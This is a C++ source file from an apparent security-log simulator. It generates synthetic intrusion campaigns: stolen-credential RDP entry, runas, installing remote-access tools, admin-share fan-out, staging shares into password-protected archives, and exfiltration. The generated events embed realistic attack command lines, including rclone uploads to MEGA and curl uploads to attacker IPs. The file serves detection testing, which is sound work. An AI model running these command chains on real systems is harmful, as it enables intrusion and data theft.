// Injected campaigns modelled on breach 1 of DESIGN.md: bought credentials,
// remote-access software, RDP hops with a change of account, admin-share
// fan-out, staging and exfiltration (docs/simulate.md, "Campaigns").
#include <fmt/format.h>

#include <algorithm>
#include <map>

#include "simulate/generate.h"

namespace inari::sim {

namespace {

std::string HostingIp(Rng& r) {
  static constexpr int kFirst[] = {185, 45, 194, 91, 193, 89, 5, 146};
  return fmt::format("{}.{}.{}.{}", kFirst[r.Below(8)], r.Range(1, 254), r.Range(0, 255), r.Range(1, 254));
}

std::string DesktopName(Rng& r) {
  static const char kChars[] = "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789";
  std::string s = "DESKTOP-";
  for (int i = 0; i < 7; ++i) s.push_back(kChars[r.Below(sizeof kChars - 1)]);
  return s;
}

uint32_t PickOne(Rng& r, const std::vector<uint32_t>& v) { return v[r.Below(v.size())]; }

}  // namespace

std::vector<Campaign> PlanCampaigns(const Inventory& inv, const SimulateOptions& o) {
  std::vector<Campaign> out;
  const int n = o.campaigns >= 0 ? o.campaigns : int(std::max<uint32_t>(2, o.hosts / 1000));
  const uint32_t days = std::max<uint32_t>(1, o.days);
  const uint32_t warm = std::min<uint32_t>(o.warmup_days, days - 1);
  for (int c = 0; c < n; ++c) {
    Rng r = Rng::For(o.seed, Tag("campaign"), uint64_t(c));
    Campaign k;
    k.id = c + 1;
    const uint32_t room = days - warm;  // days available after warm-up
    k.fast = room < 6 || r.Percent(50);
    const uint32_t span = k.fast ? std::min<uint32_t>(room, 2) : std::min<uint32_t>(room, uint32_t(r.Range(5, 21)));
    const uint32_t start_day = warm + uint32_t(r.Below(std::max<uint32_t>(1, room - span + 1)));
    const int64_t period_end = inv.DayStart(days) - 30 * kMin;

    // Accounts.
    std::vector<uint32_t> staff;
    for (uint32_t u : inv.persons) {
      const Account& a = inv.accounts[u];
      if (a.role != PersonRole::kStaff && a.role != PersonRole::kDeveloper) continue;
      if (a.first_day > start_day) continue;
      staff.push_back(u);
    }
    k.user = PickOne(r, staff);
    const Account& user = inv.accounts[k.user];
    std::string priv_kind;
    const uint32_t pk = uint32_t(r.Below(100));
    if (pk < 40) {
      const uint32_t svcs[] = {inv.svc_backup, inv.svc_sccm, inv.svc_monitor};
      k.privileged = svcs[r.Below(3)];
      priv_kind = "service-account";
    } else if (pk < 70 && !inv.server_admins.empty()) {
      k.privileged = uint32_t(inv.accounts[PickOne(r, inv.server_admins)].admin_account);
      priv_kind = "admin-account";
    } else if (pk < 85) {
      k.privileged = inv.shared_admin;
      priv_kind = "shared-admin-account";
    } else {
      k.privileged = uint32_t(inv.accounts[PickOne(r, inv.domain_admins)].admin_account);
      priv_kind = "domain-admin-account";
    }
    k.second = k.privileged;
    if (r.Percent(40)) {
      const uint32_t alt[] = {inv.svc_backup, inv.shared_admin,
                              uint32_t(inv.accounts[PickOne(r, inv.domain_admins)].admin_account)};
      uint32_t s = alt[r.Below(3)];
      if (s != k.privileged) k.second = s;
    }
    // Entry.
    const bool external = r.Percent(50);
    k.client_name = DesktopName(r);
    if (external) {
      k.entry_host = inv.jump_hosts[user.site % inv.jump_hosts.size()];
      k.entry_ip = HostingIp(r);
    } else {
      k.entry_host = uint32_t(user.workstation);
      k.entry_ip = fmt::format("10.250.{}.{}", r.Range(64, 255), r.Range(2, 254));
    }
    k.external_ips.push_back(k.entry_ip);
    // Pivot B and third hop C.
    std::vector<uint32_t> bpool = inv.file_servers;
    bpool.insert(bpool.end(), inv.app_servers.begin(), inv.app_servers.end());
    uint32_t B = r.Percent(50) ? PickOne(r, inv.file_servers) : PickOne(r, bpool);
    if (B == k.entry_host) B = inv.backup_server;
    const uint32_t cr = uint32_t(r.Below(100));
    uint32_t C = cr < 45 ? PickOne(r, inv.sql_servers) : cr < 70 ? PickOne(r, inv.dcs) : PickOne(r, bpool);
    if (C == B || C == k.entry_host) C = inv.sql_servers[0] == B ? inv.dcs[0] : inv.sql_servers[0];

    const bool do_discovery = r.Percent(75);
    const bool do_rat = r.Percent(70);
    k.rat = do_rat ? (r.Percent(60) ? "AnyDesk" : "TeamViewer") : "";
    const bool do_hop2 = r.Percent(80);
    const bool do_fanout = r.Percent(75);
    const bool do_stage = r.Percent(75);
    const bool do_brute = r.Percent(30);
    k.archiver = do_stage ? (r.Percent(60) ? "7z" : "rar") : "";
    // Slow campaigns come back on later nights; the gaps fit the span.
    int batches = k.fast ? 1 : int(r.Range(2, 3));
    int stage_nights = k.fast ? 1 : int(r.Range(1, 3));
    int ex_nights = k.fast ? 1 : int(r.Range(1, 4));
    auto count_nights = [&] {
      return uint32_t(1 + (do_fanout ? batches - 1 : 0) + (do_stage ? stage_nights + ex_nights : 0));
    };
    while (!k.fast && count_nights() + 2 > span && (ex_nights > 1 || stage_nights > 1 || batches > 1)) {
      if (ex_nights > 1) --ex_nights;
      else if (stage_nights > 1) --stage_nights;
      else --batches;
    }
    const uint32_t nights = count_nights();
    const uint32_t gap = std::max<uint32_t>(1, (span - 1) / nights);
    const uint32_t ex = uint32_t(r.Below(100));
    k.exfil_tool = do_stage ? (ex < 50 ? "rclone" : ex < 80 ? "curl" : "MEGAsync") : "";
    k.variant = fmt::format("{}/{}/{}/{}", k.fast ? "fast" : "slow", external ? "external-rdp" : "vpn-rdp",
                            k.rat.empty() ? "no-rat" : k.rat, priv_kind);
    if (!k.exfil_tool.empty()) k.variant += "/" + k.archiver + "+" + k.exfil_tool;
    if (k.exfil_tool == "rclone" || k.exfil_tool == "MEGAsync") {
      k.external_ips.push_back(fmt::format("66.203.125.{}", r.Range(10, 20)));
      for (int i = 0; i < 3; ++i) k.external_ips.push_back(fmt::format("31.216.148.{}", r.Range(2, 60)));
    } else if (k.exfil_tool == "curl") {
      k.external_ips.push_back(HostingIp(r));
    }

    // Schedule: the first night, then (slow) more nights over the span.
    const uint16_t site = inv.hosts[k.entry_host].site;
    const bool night = r.Percent(75);
    int64_t t = night ? inv.Local(start_day, site, r.Range(22 * 60, 26 * 60 + 30))
                      : inv.Local(start_day, site, r.Range(9 * 60, 16 * 60));
    auto later = [&](int64_t lo, int64_t hi) { t += Dur(r, lo, hi); };
    auto night_of = [&](uint32_t day) {
      day = std::min(day, days - 1);
      return inv.Local(day, site, r.Range(21 * 60 + 30, 27 * 60));
    };
    auto add = [&](const char* kind, uint32_t host, uint32_t account, std::string technique, std::string what,
                   std::vector<uint32_t> targets = {}, std::string detail = {}) {
      CampaignStep s;
      s.time = t;
      s.host = host;
      s.account = account;
      s.kind = kind;
      s.technique = std::move(technique);
      s.what = std::move(what);
      s.targets = std::move(targets);
      s.detail = std::move(detail);
      k.steps.push_back(std::move(s));
    };
    const uint32_t A = k.entry_host;
    const std::string& An = inv.hosts[A].name;
    const std::string& Bn = inv.hosts[B].name;
    const std::string& Cn = inv.hosts[C].name;
    const std::string& P = inv.accounts[k.privileged].sam;
    if (do_brute) {
      add("password_guessing", A, k.user, "T1110.001 Password Guessing",
          fmt::format("RDP password guessing against {} from {}", An, k.entry_ip));
      later(5 * kMin, 40 * kMin);
    }
    add("entry", A, k.user, "T1133 External Remote Services; T1078.002 Domain Accounts",
        fmt::format("RDP logon with the stolen credentials of {} on {} from new source {} ({})", user.sam, An,
                    k.entry_ip, k.client_name));
    later(2 * kMin, 10 * kMin);
    if (do_discovery) {
      add("discovery", A, k.user, "T1087.002 Domain Account Discovery; T1018 Remote System Discovery",
          "discovery: whoami, domain admins, domain controllers, net view");
      later(5 * kMin, 20 * kMin);
    }
    add("explicit_credentials", A, k.privileged, "T1078.002 Domain Accounts (runas, explicit credentials)",
        fmt::format("runas with the stolen credentials of {} (4648, new logon)", P));
    later(3 * kMin, 15 * kMin);
    add("rdp_hop", B, k.privileged, "T1021.001 Remote Desktop Protocol",
        fmt::format("RDP {} -> {} as {} (explicit credentials)", An, Bn, P), {B});
    later(5 * kMin, 20 * kMin);
    if (do_rat) {
      add("remote_access_tool", B, k.privileged, "T1219 Remote Access Software; T1543.003 Windows Service",
          fmt::format("{} downloaded and installed as a service on {} (never ran there)", k.rat, Bn), {}, k.rat);
      later(5 * kMin, 20 * kMin);
    }
    uint32_t day_cursor = start_day;
    auto next_night = [&](uint32_t min_gap, uint32_t max_gap) {
      day_cursor += uint32_t(r.Range(min_gap, max_gap));
      t = std::max(t + kHour, night_of(day_cursor));
      if (!k.rat.empty())
        add("return", B, k.privileged, "T1219 Remote Access Software",
            fmt::format("attacker returns to {} through {} (console logon of {})", Bn, k.rat, P), {}, k.rat);
      else
        add("return", A, k.user, "T1133 External Remote Services",
            fmt::format("attacker returns by RDP from {} to {}, then to {}", k.entry_ip, An, Bn), {B});
      later(3 * kMin, 10 * kMin);
    };
    if (!k.fast) next_night(1, gap);
    const uint32_t H2 = k.second;
    if (do_hop2) {
      add("rdp_hop", C, H2, "T1021.001 Remote Desktop Protocol",
          fmt::format("RDP {} -> {} as {}{}", Bn, Cn, inv.accounts[H2].sam,
                      H2 != k.privileged ? " (change of account, explicit credentials)" : ""),
          {C});
      later(10 * kMin, 40 * kMin);
    }
    if (do_fanout) {
      std::vector<uint32_t> pool = inv.workstations;
      pool.insert(pool.end(), inv.servers.begin(), inv.servers.end());
      const uint32_t ntargets = uint32_t(std::min<size_t>(pool.size() - 3, size_t(r.Range(15, 60))));
      std::vector<uint32_t> targets;
      while (targets.size() < ntargets) {
        uint32_t h = PickOne(r, pool);
        if (h == A || h == B || h == C || std::find(targets.begin(), targets.end(), h) != targets.end()) continue;
        targets.push_back(h);
      }
      const uint32_t fan_account = r.Percent(50) ? H2 : k.privileged;
      const size_t per = (targets.size() + size_t(batches) - 1) / size_t(batches);
      for (int bi = 0; bi < batches; ++bi) {
        if (bi > 0) next_night(1, gap);
        std::vector<uint32_t> part(targets.begin() + std::min(targets.size(), bi * per),
                                   targets.begin() + std::min(targets.size(), (bi + 1) * per));
        if (part.empty()) break;
        add("admin_share_fanout", B, fan_account, "T1021.002 SMB/Windows Admin Shares; T1135 Network Share Discovery",
            fmt::format("C$/ADMIN$ of {} hosts listed from {} as {} within minutes{}", part.size(), Bn,
                        inv.accounts[fan_account].sam,
                        fan_account != k.privileged ? " (net use with explicit credentials, 4648 per target)" : ""),
            part);
        later(20 * kMin, 60 * kMin);
      }
    }
    if (do_stage) {
      const uint32_t S = inv.hosts[C].role == HostRole::kFile || inv.hosts[C].role == HostRole::kSql ? (do_hop2 ? C : B) : B;
      const uint32_t SA = S == C ? H2 : k.privileged;
      for (int i = 0; i < stage_nights; ++i) {
        if (!k.fast) next_night(1, gap);
        add("staging", S, SA, "T1560.001 Archive via Utility; T1074.001 Local Data Staging",
            fmt::format("data packed with {} into a staging folder on {}", k.archiver, inv.hosts[S].name), {},
            k.archiver);
        later(kHour, 2 * kHour);
      }
      for (int i = 0; i < ex_nights; ++i) {
        if (!k.fast) next_night(1, gap);
        add("exfiltration", S, SA,
            k.exfil_tool == "curl" ? "T1048.002 Exfiltration Over Asymmetric Encrypted Non-C2 Protocol"
                                   : "T1567.002 Exfiltration to Cloud Storage",
            fmt::format("exfiltration with {} from {} to {}", k.exfil_tool, inv.hosts[S].name, k.external_ips.back()),
            {}, k.exfil_tool);
        later(2 * kHour, 4 * kHour);
      }
    }
    // Drop steps past the end of the period.
    while (!k.steps.empty() && k.steps.back().time > period_end - 2 * kHour) k.steps.pop_back();
    if (k.steps.empty()) continue;
    k.start = k.steps.front().time;
    k.end = k.steps.back().time;
    out.push_back(std::move(k));
  }
  return out;
}

// ---- emission -----------------------------------------------------------

struct CampaignRunner::State {
  bool have_a = false, have_b = false, have_c = false;
  RdpSession a;           // user's session on the entry host
  Proc a_priv;            // runas shell of the privileged account on A
  Proc b_shell, c_shell;  // attacker's shells on B and C
  uint32_t b_account = 0, c_account = 0;
  int64_t c_time = 0;
  uint32_t staged_volumes = 0;
  std::string stage_dir;
};

CampaignRunner::CampaignRunner(const Env& e, uint64_t seed, const std::vector<Campaign>& campaigns)
    : e_(e), seed_(seed), campaigns_(campaigns) {
  for (size_t i = 0; i < campaigns.size(); ++i) states_.push_back(new State());
}

CampaignRunner::~CampaignRunner() {
  for (State* s : states_) delete s;
}

void CampaignRunner::Day(uint32_t day) {
  const int64_t begin = e_.inv.DayStart(day), end = e_.inv.DayStart(day + 1);
  for (size_t c = 0; c < campaigns_.size(); ++c) {
    const Campaign& k = campaigns_[c];
    for (size_t i = 0; i < k.steps.size(); ++i) {
      if (k.steps[i].time < begin || k.steps[i].time >= end) continue;
      e_.s.SetTag(EventTag{int16_t(c), int16_t(i)});
      Step(k, i, *states_[c]);
      e_.s.SetTag(EventTag{});
    }
  }
}

void CampaignRunner::Step(const Campaign& k, size_t index, State& st) {
  const Inventory& inv = e_.inv;
  const CampaignStep& step = k.steps[index];
  Rng r = Rng::For(seed_, Tag("attack"), uint64_t(k.id), index);
  e_.s.Stream(r.Next());
  int64_t t = step.time;
  const uint32_t A = k.entry_host;
  const Host& ah = inv.hosts[A];
  const uint32_t P = k.privileged;
  const uint32_t B = [&] {
    for (const auto& s : k.steps)
      if (s.kind == "rdp_hop") return s.host;
    return A;
  }();
  const Host& bh = inv.hosts[B];
  auto shell_on = [&](uint32_t host) -> Proc& {
    if (host == B) return st.b_shell;
    if (host == A) return st.a_priv;
    if (t - st.c_time > 6 * kHour) {  // a later night: RDP from B to C again
      RdpSession s = RdpHop(e_, r, t, st.b_shell, st.b_account, host, step.account);
      st.c_shell = Spawn(e_, r, s.t + Dur(r, 10 * kSec, kMin), s.explorer, "C:\\Windows\\System32\\cmd.exe",
                         "\"C:\\Windows\\system32\\cmd.exe\"");
      st.c_time = t;
      t = st.c_shell.start + Dur(r, 10 * kSec, kMin);
    }
    return st.c_shell;
  };

  if (step.kind == "password_guessing") {
    static constexpr const char* kNames[] = {"administrator", "admin", "scan", "test", "backup"};
    const int n = int(r.Range(6, 30));
    for (int i = 0; i < n; ++i) {
      std::string_view name = i == n - 1 ? std::string_view(inv.accounts[k.user].sam) : kNames[r.Below(5)];
      Ev4776(e_.s, t, ah.dc, name, k.client_name, "0xc000006a");
      Ev4625(e_.s, t + 50 * kMs, A, name, 3, k.entry_ip, k.client_name, i % 3 ? "0xc000006a" : "0xc0000064");
      t += Dur(r, 2 * kSec, 40 * kSec);
    }
  } else if (step.kind == "entry") {
    st.a = RdpLogon(e_, r, t, A, k.user, k.entry_ip, k.client_name, false);
    st.have_a = true;
  } else if (step.kind == "discovery") {
    Proc cmd = Spawn(e_, r, t, st.a.explorer, "C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"");
    const std::string fs = inv.hosts[inv.file_servers[0]].name;
    const std::pair<const char*, std::string> cmds[] = {
        {"C:\\Windows\\System32\\whoami.exe", "whoami /all"},
        {"C:\\Windows\\System32\\net.exe", "net group \"domain admins\" /domain"},
        {"C:\\Windows\\System32\\nltest.exe", "nltest /dclist:" + inv.dns_domain},
        {"C:\\Windows\\System32\\net.exe", "net view \\\\" + fs + " /all"},
        {"C:\\Windows\\System32\\net.exe", "net group \"Domain Computers\" /domain"}};
    for (const auto& [img, line] : cmds) {
      t += Dur(r, 5 * kSec, 60 * kSec);
      Spawn(e_, r, t, cmd, img, line);
    }
  } else if (step.kind == "explicit_credentials") {
    const Principal u = Who(inv, k.user), p = Who(inv, P);
    Proc runas = Spawn(e_, r, t, st.a.explorer, "C:\\Windows\\System32\\runas.exe",
                       "runas /user:" + inv.domain + "\\" + inv.accounts[P].sam + " cmd.exe");
    t += Dur(r, 5 * kSec, 20 * kSec);
    Ev4648(e_.s, t, A, u, st.a.lid, p, "localhost", "localhost", "C:\\Windows\\System32\\svchost.exe",
           ah.lsm_pid + 4000, "::1", 0);
    Ev4768(e_.s, t + 100 * kMs, ah.dc, p, ah.ip);
    const uint64_t lid = NewLogonId(r);
    LogonArgs a;
    a.type = 2;
    a.ip = "::1";
    a.workstation = ah.name;
    a.package = "Negotiate";
    a.process = "C:\\Windows\\System32\\svchost.exe";
    a.process_id = ah.lsm_pid + 4000;
    a.subject_system = true;
    Ev4624(e_.s, t + 300 * kMs, A, p, lid, a);
    if (p.privileged) Ev4672(e_.s, t + 301 * kMs, A, p, lid);
    Proc seclogon = SystemProc(inv, A, "C:\\Windows\\System32\\svchost.exe",
                               "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s seclogon", ah.lsm_pid + 4000);
    st.a_priv = SpawnAs(e_, r, t + kSec, seclogon, "C:\\Windows\\System32\\cmd.exe", "cmd.exe", P, lid,
                        p.privileged ? "High" : "Medium", st.a.session);
    (void)runas;
  } else if (step.kind == "rdp_hop") {
    const uint32_t target = step.host;
    const bool first = target == B;
    const Proc& from = first ? st.a.explorer : st.b_shell;
    const uint32_t from_account = first ? k.user : st.b_account;
    RdpSession s = RdpHop(e_, r, t, from, from_account, target, step.account);
    Proc cmd = Spawn(e_, r, s.t + Dur(r, 10 * kSec, kMin), s.explorer, "C:\\Windows\\System32\\cmd.exe",
                     "\"C:\\Windows\\system32\\cmd.exe\"");
    if (first) {
      st.b_shell = cmd;
      st.b_account = step.account;
      st.have_b = true;
    } else {
      st.c_shell = cmd;
      st.c_account = step.account;
      st.c_time = t;
      st.have_c = true;
      int64_t w = cmd.start + Dur(r, 30 * kSec, 3 * kMin);
      if (inv.hosts[target].role == HostRole::kSql)
        Spawn(e_, r, w, cmd, "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE",
              "sqlcmd -S localhost -E -Q \"SELECT name, size FROM sys.master_files\"");
      else
        Spawn(e_, r, w, cmd, "C:\\Windows\\System32\\net.exe", "net share");
    }
  } else if (step.kind == "remote_access_tool") {
    Proc& sh = st.b_shell;
    const bool anydesk = k.rat == "AnyDesk";
    const std::string dl = anydesk ? "C:\\ProgramData\\AnyDesk.exe" : "C:\\ProgramData\\TeamViewer_Setup.exe";
    Proc ps = Spawn(e_, r, t, sh, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    fmt::format("powershell -c \"iwr {} -OutFile {}\"",
                                anydesk ? "https://download.anydesk.com/AnyDesk.exe"
                                        : "https://download.teamviewer.com/download/TeamViewer_Setup_x64.exe",
                                dl));
    Connect(e_, r, t + Dur(r, kSec, 3 * kSec), ps, anydesk ? "download.anydesk.com" : "download.teamviewer.com",
            anydesk ? "151.101.2.133" : "104.16.62.20", 443);
    t += Dur(r, 5 * kSec, 20 * kSec);
    Sysmon11(e_.s, t, ps, dl);
    t += Dur(r, 10 * kSec, kMin);
    std::string image = anydesk ? "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe"
                                : "C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe";
    Proc inst = Spawn(e_, r, t, sh, dl,
                      anydesk ? dl + " --install \"C:\\Program Files (x86)\\AnyDesk\" --start-with-win --silent"
                              : dl + " /S");
    Sysmon11(e_.s, t + Dur(r, kSec, 5 * kSec), inst, image);
    Ev7045(e_.s, t + Dur(r, 5 * kSec, 15 * kSec), B, anydesk ? "AnyDesk Service" : "TeamViewer",
           anydesk ? "\"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe\" --service"
                   : "\"C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe\"",
           "auto start", "LocalSystem", inv.accounts[st.b_account].sid);
    Proc svc = Spawn(e_, r, t + Dur(r, 20 * kSec, 40 * kSec), ServicesExe(e_, B), image,
                     "\"" + image + "\"" + (anydesk ? " --service" : ""));
    if (anydesk)
      Connect(e_, r, svc.start + Dur(r, kSec, 5 * kSec), svc, fmt::format("relay-{:08x}.net.anydesk.com", uint32_t(r.Next())),
              k.external_ips.size() > 0 ? "195.181.174.203" : "195.181.174.203", 443);
    else
      Connect(e_, r, svc.start + Dur(r, kSec, 5 * kSec), svc, fmt::format("router{}.teamviewer.com", r.Range(1, 20)),
              "217.146.21.33", 5938);
  } else if (step.kind == "return") {
    if (!k.rat.empty()) {
      const bool anydesk = k.rat == "AnyDesk";
      std::string image = anydesk ? "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe"
                                  : "C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe";
      Proc svc = SystemProc(inv, B, image, "\"" + image + "\"" + (anydesk ? " --service" : ""), 3100 + 4 * (B % 100));
      if (anydesk)
        Connect(e_, r, t, svc, fmt::format("relay-{:08x}.net.anydesk.com", uint32_t(r.Next())), "195.181.174.203", 443);
      else
        Connect(e_, r, t, svc, fmt::format("router{}.teamviewer.com", r.Range(1, 20)), "217.146.21.33", 5938);
      Spawn(e_, r, t + Dur(r, 2 * kSec, 10 * kSec), svc,
            anydesk ? image : "C:\\Program Files\\TeamViewer\\TeamViewer_Desktop.exe",
            anydesk ? "\"" + image + "\" --backend"
                    : "\"C:\\Program Files\\TeamViewer\\TeamViewer_Desktop.exe\" --IPCport 5939 --Module 1");
      ConsoleSession cs = ConsoleLogon(e_, r, t + Dur(r, 20 * kSec, 60 * kSec), B, P, 2);
      st.b_shell = Spawn(e_, r, cs.t, cs.explorer, "C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"");
      st.b_account = P;
    } else {
      st.a = RdpLogon(e_, r, t, A, k.user, k.entry_ip, k.client_name, false);
      RdpSession s = RdpHop(e_, r, st.a.t + Dur(r, kMin, 5 * kMin), st.a.explorer, k.user, B, P);
      st.b_shell = Spawn(e_, r, s.t + Dur(r, 10 * kSec, kMin), s.explorer, "C:\\Windows\\System32\\cmd.exe",
                         "\"C:\\Windows\\system32\\cmd.exe\"");
      st.b_account = P;
    }
    st.have_b = true;
  } else if (step.kind == "admin_share_fanout") {
    const Proc& sh = st.b_shell;
    const uint32_t F = step.account;
    const bool explicit_creds = F != st.b_account;
    const Principal fw = Who(inv, F);
    for (uint32_t target : step.targets) {
      const Host& th = inv.hosts[target];
      t += Dur(r, 3 * kSec, k.fast ? 30 * kSec : 60 * kSec);
      const bool admin = r.Percent(30);
      const std::string share = admin ? "ADMIN$" : "C$";
      Proc c = Spawn(e_, r, t, sh, "C:\\Windows\\System32\\cmd.exe",
                     explicit_creds
                         ? fmt::format("cmd.exe /c net use \\\\{}\\{} /user:{}\\{} && dir \\\\{}\\{}\\{}", th.name, share,
                                       inv.domain, fw.name, th.name, share, admin ? "Temp" : "Users")
                         : fmt::format("cmd.exe /c dir \\\\{}\\{}\\{}", th.name, share, admin ? "Temp" : "Users"));
      if (explicit_creds)
        Ev4648(e_.s, t + Dur(r, 100 * kMs, 500 * kMs), B, Who(inv, st.b_account), sh.logon_id, fw, th.fqdn,
               "cifs/" + th.fqdn, "C:\\Windows\\System32\\net.exe", c.pid + 4, th.ip, 445);
      Sysmon3(e_.s, t + Dur(r, 200 * kMs, 800 * kMs), c, th.ip, 445, th.fqdn);
      const uint64_t lid = NetLogon(e_, r, t + kSec, F, bh.ip, bh.dc, target);
      const std::string user_dir = th.primary_user >= 0 ? "Users\\" + inv.accounts[th.primary_user].sam : "Users";
      ShareVisit(e_, r, t + kSec + Dur(r, 100 * kMs, kSec), F, lid, bh.ip, target, share,
                 admin ? "\\??\\C:\\Windows" : "\\??\\C:\\", {admin ? "Temp" : "Users", admin ? "Temp" : user_dir});
      Ev4634(e_.s, t + Dur(r, 30 * kSec, 3 * kMin), target, fw, lid, 3);
    }
  } else if (step.kind == "staging") {
    const uint32_t S = step.host;
    Proc& sh = shell_on(S);
    const bool seven = k.archiver == "7z";
    st.stage_dir = seven ? "C:\\PerfLogs\\bk" : "C:\\Users\\Public\\Libraries\\upd";
    std::string tool = seven ? "C:\\PerfLogs\\7za.exe" : "C:\\Program Files\\WinRAR\\Rar.exe";
    if (seven && st.staged_volumes == 0) {
      Proc ps = Spawn(e_, r, t, sh, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                      "powershell -c \"iwr https://www.7-zip.org/a/7zr.exe -OutFile C:\\PerfLogs\\7za.exe\"");
      Connect(e_, r, t + Dur(r, kSec, 3 * kSec), ps, "www.7-zip.org", "159.65.89.65", 443);
      Sysmon11(e_.s, t + Dur(r, 4 * kSec, 10 * kSec), ps, tool);
      t += Dur(r, 20 * kSec, 2 * kMin);
    }
    static constexpr const char* kSources[] = {"D:\\Shares\\Finance", "D:\\Shares\\HR", "D:\\Shares\\Legal",
                                               "D:\\Shares\\Research", "E:\\SQLExport"};
    const char* src = kSources[r.Below(std::size(kSources))];
    const std::string base = seven ? "d" + std::to_string(st.staged_volumes) + ".7z" : "u" + std::to_string(st.staged_volumes) + ".rar";
    Proc z = Spawn(e_, r, t, sh, tool,
                   seven ? fmt::format("{} a -mx1 -v1g -pQz7!k2Lm {}\\{} {}", tool, st.stage_dir, base, src)
                         : fmt::format("\"{}\" a -hpQz7!k2Lm -v500m -r {}\\{} {}\\*", tool, st.stage_dir, base, src));
    const int vols = int(r.Range(4, 25));
    for (int v = 1; v <= vols; ++v) {
      t += Dur(r, 30 * kSec, 4 * kMin);
      Sysmon11(e_.s, t, z, seven ? fmt::format("{}\\{}.{:03}", st.stage_dir, base, v)
                                 : fmt::format("{}\\{}.part{:02}.rar", st.stage_dir, base.substr(0, base.size() - 4), v));
    }
    st.staged_volumes += uint32_t(vols);
  } else if (step.kind == "exfiltration") {
    const uint32_t S = step.host;
    Proc& sh = shell_on(S);
    const std::string dir = st.stage_dir.empty() ? "C:\\PerfLogs\\bk" : st.stage_dir;
    if (k.exfil_tool == "rclone") {
      Proc ps = Spawn(e_, r, t, sh, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                      "powershell -c \"iwr https://downloads.rclone.org/rclone-current-windows-amd64.zip -OutFile C:\\PerfLogs\\rc.zip; Expand-Archive C:\\PerfLogs\\rc.zip C:\\PerfLogs\\rc\"");
      Connect(e_, r, t + Dur(r, kSec, 3 * kSec), ps, "downloads.rclone.org", "95.217.6.16", 443);
      Sysmon11(e_.s, t + Dur(r, 10 * kSec, 30 * kSec), ps, "C:\\PerfLogs\\rc\\rclone-v1.65.2-windows-amd64\\rclone.exe");
      t += Dur(r, kMin, 3 * kMin);
      Proc rc = Spawn(e_, r, t, sh, "C:\\PerfLogs\\rc\\rclone-v1.65.2-windows-amd64\\rclone.exe",
                      "C:\\PerfLogs\\rc\\rclone-v1.65.2-windows-amd64\\rclone.exe copy " + dir +
                          " mega:bk --transfers 8 -q --config C:\\PerfLogs\\rc\\rclone.conf");
      Connect(e_, r, t + Dur(r, kSec, 2 * kSec), rc, "g.api.mega.co.nz", k.external_ips[1], 443);
      const int conns = int(r.Range(30, 120));
      for (int i = 0; i < conns; ++i) {
        t += Dur(r, 30 * kSec, 3 * kMin);
        const std::string& ip = k.external_ips[2 + r.Below(k.external_ips.size() - 2)];
        Sysmon3(e_.s, t, rc, ip, 443, "userstorage.mega.co.nz");
      }
    } else if (k.exfil_tool == "MEGAsync") {
      Proc ps = Spawn(e_, r, t, sh, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                      "powershell -c \"iwr https://mega.nz/MEGAsyncSetup64.exe -OutFile C:\\PerfLogs\\ms.exe; C:\\PerfLogs\\ms.exe /S\"");
      Connect(e_, r, t + Dur(r, kSec, 3 * kSec), ps, "mega.nz", k.external_ips[1], 443);
      t += Dur(r, kMin, 3 * kMin);
      const std::string img = "C:\\Users\\" + inv.accounts[step.account].sam + "\\AppData\\Local\\MEGAsync\\MEGAsync.exe";
      Sysmon11(e_.s, t - 10 * kSec, ps, img);
      Proc ms = Spawn(e_, r, t, sh, img, "\"" + img + "\"");
      Connect(e_, r, t + Dur(r, kSec, 3 * kSec), ms, "g.api.mega.co.nz", k.external_ips[1], 443);
      const int conns = int(r.Range(30, 100));
      for (int i = 0; i < conns; ++i) {
        t += Dur(r, 30 * kSec, 3 * kMin);
        Sysmon3(e_.s, t, ms, k.external_ips[2 + r.Below(k.external_ips.size() - 2)], 443, "userstorage.mega.co.nz");
      }
    } else {  // curl to the attacker's server, one volume at a time
      const int files = int(std::max<uint32_t>(3, std::min<uint32_t>(st.staged_volumes, 30)));
      for (int i = 1; i <= files; ++i) {
        t += Dur(r, 2 * kMin, 6 * kMin);
        Proc c = Spawn(e_, r, t, sh, "C:\\Windows\\System32\\curl.exe",
                       fmt::format("curl.exe -k -s -T {}\\d0.7z.{:03} https://{}:8443/up/", dir, i, k.external_ips[1]));
        Sysmon3(e_.s, t + Dur(r, 50 * kMs, 400 * kMs), c, k.external_ips[1], 8443, "");
      }
    }
  }
}

}  // namespace inari::sim
